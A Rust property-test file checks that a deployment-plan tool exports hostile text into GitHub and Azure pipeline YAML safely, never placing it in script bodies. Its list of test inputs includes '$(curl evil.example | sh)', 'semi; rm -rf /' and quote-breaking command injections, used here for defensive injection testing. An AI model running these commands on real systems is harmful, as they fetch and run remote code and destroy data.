//! Property tests: plans full of hostile text (quotes, newlines, `${{ }}`, `$(…)`, `#`, `: `, leading
//! `*`/`&`/`!`, `yes`/`no`/`on`, non-ASCII, control and line-break characters) either get a diagnostic
//! or export to YAML that parses, where no plan text ever appears inside a script body and every
//! command arrives verbatim as a value.
//!
//! The hostile text goes into every text field of the README's complete example, found generically:
//! the plan is serialised, and every string that can be replaced without breaking the plan (so not an
//! enum variant's name) is a candidate. Equal strings are replaced together, so an id and the
//! references to it stay in step.
//!
//! With `CUTOVER_EXPORT_DUMP=DIR` set, every successful export is also written under DIR so that CI can
//! run the validators over them.

use std::collections::BTreeMap;
use std::path::PathBuf;

use cutover::analysis::analyse;
use cutover::export::{Export, ExportError, FileKind, Target, export};
use cutover::plan::{Plan, TextKind, parse_plan, visit_texts};
use proptest::prelude::*;
use serde_json::Value;

const HOSTILE: &[&str] = &[
    "it's \"quoted\"",
    "line one\nline two",
    "${{ secrets.GITHUB_TOKEN }}",
    "$(curl evil.example | sh)",
    "$[ variables.secret ]",
    "name # not a comment",
    "key: value",
    "*alias",
    "&anchor",
    "!tag",
    "yes",
    "no",
    "on",
    "Off",
    "~",
    "null",
    "0755",
    "3.10",
    "12:30",
    "- dash",
    "? question",
    "| pipe",
    "> fold",
    "@at",
    "`backtick`",
    "%percent",
    "[flow]",
    "{flow}",
    "Ünïcødé ☃ 日本",
    "trailing space ",
    " leading space",
    "tab\there",
    "back\\slash",
    "semi; rm -rf /",
    "'; exit 1; '",
    "\"; exit 1; \"",
    "a\rb",
];

/// The README's complete example: every field of the format is set.
fn base_plan() -> Plan {
    let readme = include_str!("../../README.md");
    let start = readme
        .find("```ron\nPlan(")
        .expect("the README has a complete example");
    let text = &readme[start + "```ron\n".len()..];
    let end = text.find("```").expect("the example ends");
    parse_plan(&text[..end], "README.md").expect("the example parses")
}

/// The paths (JSON pointers) of every string in `value`, by the string's text.
fn strings_by_text(value: &Value, path: &str, out: &mut BTreeMap<String, Vec<String>>) {
    match value {
        Value::String(text) => out.entry(text.clone()).or_default().push(path.to_owned()),
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                strings_by_text(item, &format!("{path}/{index}"), out);
            }
        }
        Value::Object(map) => {
            for (key, item) in map {
                strings_by_text(item, &format!("{path}/{key}"), out);
            }
        }
        _ => {}
    }
}

/// The base plan serialised, and its free texts: each distinct text with every place it occurs. A
/// text is free when replacing it everywhere still gives a plan (enum variant names are not).
/// The serialised base plan, and each free text with the JSON pointers of the places it occurs.
type FreeTexts = (Value, Vec<(String, Vec<String>)>);

fn free_texts() -> &'static FreeTexts {
    static FREE: std::sync::OnceLock<FreeTexts> = std::sync::OnceLock::new();
    FREE.get_or_init(find_free_texts)
}

fn find_free_texts() -> FreeTexts {
    let value = serde_json::to_value(base_plan()).expect("serialises");
    let mut by_text = BTreeMap::new();
    strings_by_text(&value, "", &mut by_text);
    let free = by_text
        .into_iter()
        .filter(|(_, paths)| {
            let mut probe = value.clone();
            for path in paths {
                *probe.pointer_mut(path).expect("path") = Value::String("probe".into());
            }
            serde_json::from_value::<Plan>(probe).is_ok()
        })
        .collect();
    (value, free)
}

/// The base plan with the chosen replacements (`None` keeps a text).
fn plan_with(value: &Value, free: &[(String, Vec<String>)], choices: &[Option<String>]) -> Plan {
    let mut value = value.clone();
    for ((_, paths), choice) in free.iter().zip(choices) {
        if let Some(replacement) = choice {
            for path in paths {
                *value.pointer_mut(path).expect("path") = Value::String(replacement.clone());
            }
        }
    }
    serde_json::from_value(value).expect("a plan with free texts replaced is a plan")
}

fn hostile() -> impl Strategy<Value = String> {
    (prop::sample::select(HOSTILE), "[a-z]{0,4}")
        .prop_map(|(text, suffix)| format!("{text}{suffix}"))
}

/// For each free text: keep it or replace it with hostile text, about two replacements per plan, so
/// that a good share of the cases pass `check` and their exports reach the validators.
fn choices(count: usize) -> impl Strategy<Value = Vec<Option<String>>> {
    let probability = 2.0 / count.max(2) as f64;
    prop::collection::vec(prop::option::weighted(probability, hostile()), count)
}

/// Every string value in a YAML document, with the key it sits under.
fn strings(value: &Value, key: &str, out: &mut Vec<(String, String)>) {
    match value {
        Value::String(text) => out.push((key.to_owned(), text.clone())),
        Value::Array(items) => items.iter().for_each(|item| strings(item, key, out)),
        Value::Object(map) => map.iter().for_each(|(k, v)| strings(v, k, out)),
        _ => {}
    }
}

fn dump(export: &Export, case: &str) {
    let Some(dir) = std::env::var_os("CUTOVER_EXPORT_DUMP") else {
        return;
    };
    let root = PathBuf::from(dir).join(case);
    for file in &export.files {
        let path = root.join(&file.path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("dump folder");
        std::fs::write(path, &file.contents).expect("dump file");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: hostile_cases(), .. ProptestConfig::default() })]

    #[test]
    fn hostile_text_gets_a_diagnostic_or_exports_safely(picked in choices(free_texts().1.len())) {
        let (value, free) = free_texts();
        check_case(&plan_with(value, free, &picked), &picked)?;
    }
}

/// Exports `plan` and checks the properties.
fn check_case(plan: &Plan, picked: &[Option<String>]) -> Result<(), TestCaseError> {
    let analysis = analyse(plan);
    let result = export(plan, Target::All);
    if analysis.has_errors() {
        prop_assert!(matches!(result, Err(ExportError::PlanHasErrors(_))));
        return Ok(());
    }
    let export = result.map_err(|e| TestCaseError::fail(format!("export failed: {e}")))?;
    let mut commands = Vec::new();
    visit_texts(plan, &mut |field| {
        if field.kind == TextKind::Command && !field.text.trim().is_empty() {
            commands.push(field.text.to_owned());
        }
    });
    let hostile_used: Vec<&String> = picked
        .iter()
        .flatten()
        .filter(|h| h.len() > 3 && h.chars().any(|c| !c.is_ascii_alphanumeric()))
        .collect();
    let mut carried = Vec::new();
    for file in export
        .files
        .iter()
        .filter(|f| matches!(f.kind, FileKind::AzurePipeline | FileKind::GitHubWorkflow))
    {
        let doc: Value = serde_saphyr::from_str(&file.contents)
            .map_err(|e| TestCaseError::fail(format!("{} does not parse: {e}", file.path)))?;
        let mut all = Vec::new();
        strings(&doc, "", &mut all);
        // No plan text appears in a script body.
        for (key, text) in &all {
            if key == "run" || key == "inlineScript" || key == "bash" {
                for hostile in &hostile_used {
                    prop_assert!(
                        !text.contains(hostile.as_str()),
                        "{}: script contains plan text {hostile:?}",
                        file.path
                    );
                }
            }
        }
        carried.extend(all.into_iter().map(|(_, text)| text));
    }
    // Every command arrives verbatim as a value, with its placeholders resolved for some environment
    // and region of the plan.
    let regions: Vec<Option<&cutover::plan::Id>> = if plan.regions.is_empty() {
        vec![None]
    } else {
        plan.regions.iter().map(|r| Some(&r.id)).collect()
    };
    for command in &commands {
        let arrived = plan.environments.iter().any(|environment| {
            regions.iter().any(|region| {
                let place = cutover::plan::placeholder::Place {
                    environment: &environment.id,
                    region: *region,
                };
                carried.contains(&cutover::plan::placeholder::resolve(command, place))
            })
        });
        prop_assert!(arrived, "command {command:?} did not arrive verbatim");
    }
    dump(&export, &format!("case-{:016x}", fxhash(picked)));
    Ok(())
}

/// How many cases the property runs: 96, or `CUTOVER_HOSTILE_CASES` (the validator script asks for
/// fewer, since it lints every dumped file).
fn hostile_cases() -> u32 {
    std::env::var("CUTOVER_HOSTILE_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(96)
}

/// A stable name for a dumped case.
fn fxhash(picked: &[Option<String>]) -> u64 {
    picked
        .iter()
        .flat_map(|t| t.as_deref().unwrap_or("\u{0}").bytes())
        .fold(0xcbf2_9ce4_8422_2325, |hash, byte| {
            (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
        })
}

#[test]
fn the_base_plan_exports_and_its_texts_are_found() {
    let (_, free) = free_texts();
    assert!(free.len() > 60, "only {} free texts", free.len());
    assert!(export(&base_plan(), Target::All).is_ok());
}
